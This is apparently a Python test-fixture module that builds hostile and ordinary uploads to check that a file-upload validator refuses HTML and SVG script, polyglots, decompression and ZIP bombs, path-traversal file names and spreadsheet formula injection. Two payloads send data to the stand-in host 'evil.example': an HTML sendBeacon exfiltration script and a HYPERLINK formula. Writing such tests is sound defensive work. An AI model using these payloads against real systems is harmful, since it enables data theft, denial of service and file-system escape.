"""A corpus of hostile uploads and one of ordinary ones, built in code (no blobs):
web pages and SVG script under harmless names, polyglots, decompression and ZIP
bombs, and the names people use to break out of a folder or hide an extension."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

from tests.factories import PDF_BYTES

MB = 1024 * 1024


@dataclass(frozen=True)
class Sample:
    """A file as a browser sends it, and the words the refusal must contain."""

    id: str
    filename: str
    content: bytes
    message: str = ""


def _image(kind: str, size: tuple[int, int] = (8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(out, kind)
    return out.getvalue()


def _zip(members: dict[str, bytes], *, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, content in members.items():
            z.writestr(name, content)
    return out.getvalue()


def _docx(**extra: bytes) -> bytes:
    members = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
        "word/document.xml": b'<?xml version="1.0"?><w:document>'
        + b"<w:p>Lesson plan</w:p>" * 50
        + b"</w:document>",
    }
    members.update({name.replace("__", "/"): data for name, data in extra.items()})
    return _zip(members)


def _chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A valid PNG header declaring ``width`` x ``height`` pixels in a few bytes
    (2.5 billion pixels: about 10 GB to open)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 1024, 9))
        + _chunk(b"IEND", b"")
    )


def zip_bomb_dense() -> bytes:
    """A DOCX-looking file whose one part is 24 MB of zeros (about a thousand
    times its compressed size)."""
    return _docx(word__media__image1__bin=bytes(24 * MB))


def zip_bomb_nested() -> bytes:
    """A DOCX whose embedded "spreadsheet" is an archive of archives, five deep."""
    inner = _zip({"payload.bin": bytes(MB)})
    for depth in range(4):
        inner = _zip({f"level{depth}.zip": inner})
    return _docx(word__embeddings__sheet1__xlsx=inner)


def zip_bomb_nested_dense() -> bytes:
    """A DOCX whose embedded spreadsheet (one level: allowed) hides 24 MB of zeros."""
    sheet = _zip({"xl/workbook.xml": b"<workbook/>", "xl/blob.bin": bytes(24 * MB)})
    return _docx(word__embeddings__sheet1__xlsx=sheet)


def locked_docx() -> bytes:
    """A DOCX whose parts say they are encrypted (a password-locked ZIP)."""
    data = bytearray(_docx())
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start != -1:
            data[start + flags_at] |= 0x01
            start = data.find(signature, start + 4)
    return bytes(data)


HTML = (
    b"<!DOCTYPE html><html><body><script>fetch('/account/export')"
    b".then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))"
    b"</script></body></html>"
)
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
    b'onload="alert(document.domain)"><script>alert(1)</script></svg>'
)
JAR = _zip({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": b"\xca\xfe"})

NOT_A_TYPE = "isn't a file type we accept"
WEB_CODE = "has web page code (HTML or script) inside it"
TWO_IN_ONE = "is two files in one"
BOMB = "would unpack to far more than its size"
LOCKED = "is locked with a password or packed in a way we can't read"
HUGE_IMAGE = "is an image of more than 100 million pixels"


def hostile() -> list[Sample]:
    """Files every upload point refuses, with what it says."""
    pdf_head, pdf_rest = PDF_BYTES[:9], PDF_BYTES[9:]
    return [
        Sample("html-named-pdf", "report.pdf", HTML, "report.pdf " + NOT_A_TYPE),
        Sample("svg-with-script", "chart.svg", SVG, "chart.svg " + NOT_A_TYPE),
        Sample("svg-named-png", "chart.png", SVG, "chart.png " + NOT_A_TYPE),
        Sample("gifar", "photo.gif", _image("GIF") + JAR, TWO_IN_ONE),
        Sample("jpeg-plus-jar", "photo.jpg", _image("JPEG") + JAR, TWO_IN_ONE),
        Sample(
            "pdf-html-polyglot",
            "handout.pdf",
            pdf_head
            + b"<html><body><script>alert(1)</script></body></html>\n"
            + pdf_rest,
            WEB_CODE,
        ),
        Sample("png-decompression-bomb", "big.png", png_bomb(), HUGE_IMAGE),
        Sample(
            "png-just-over-the-limit", "wide.png", png_bomb(20_000, 5_001), HUGE_IMAGE
        ),
        Sample("zip-bomb", "plan.docx", zip_bomb_dense(), BOMB),
        Sample("zip-bomb-nested", "plan.docx", zip_bomb_nested(), BOMB),
        Sample("zip-bomb-nested-dense", "plan.docx", zip_bomb_nested_dense(), BOMB),
        Sample("locked-docx", "plan.docx", locked_docx(), LOCKED),
        Sample("exe-named-pdf", "lesson.pdf", b"MZ\x90\x00" + bytes(60), NOT_A_TYPE),
        Sample("plain-zip", "archive.docx", JAR, NOT_A_TYPE),
    ]


#: Names that try to leave the folder, hide their extension or break a header,
#: on an ordinary PDF: accepted, with the name made harmless (what is kept).
HOSTILE_NAMES = [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\windows\\x.pdf", "x.pdf"),
    ("/etc/cron.d/job.pdf", "job.pdf"),
    ("..", "file"),
    ("nul\x00byte.pdf", "nulbyte.pdf"),
    ("invoice\u202efdp.exe", "invoicefdp.exe"),
    ("zero\u200bwidth.pdf", "zerowidth.pdf"),
    ('quote"; filename="evil.html', "quote; filename=evil.html"),
    ("line\r\nX-Injected: 1.pdf", "lineX-Injected: 1.pdf"),
    ("a" * 500 + ".pdf", "a" * 196 + ".pdf"),
]


def ordinary() -> list[Sample]:
    """Files every upload point accepts."""
    return [
        Sample("pdf", "plan.pdf", PDF_BYTES),
        Sample("png", "photo.png", _image("PNG")),
        Sample("jpeg", "photo.jpg", _image("JPEG", (640, 480))),
        Sample("gif", "anim.gif", _image("GIF")),
        Sample("webp", "pic.webp", _image("WEBP")),
        Sample("docx", "plan.docx", _docx()),
        Sample(
            "docx-with-a-chart",
            "report.docx",
            _docx(word__embeddings__sheet1__xlsx=_zip({"xl/workbook.xml": b"<w/>"})),
        ),
        Sample(
            "pptx",
            "slides.pptx",
            _zip({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}),
        ),
        Sample("photo-12-megapixels", "camera.png", png_bomb(4000, 3000)),
    ]


#: Roster and name cells a spreadsheet would run as formulas.
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
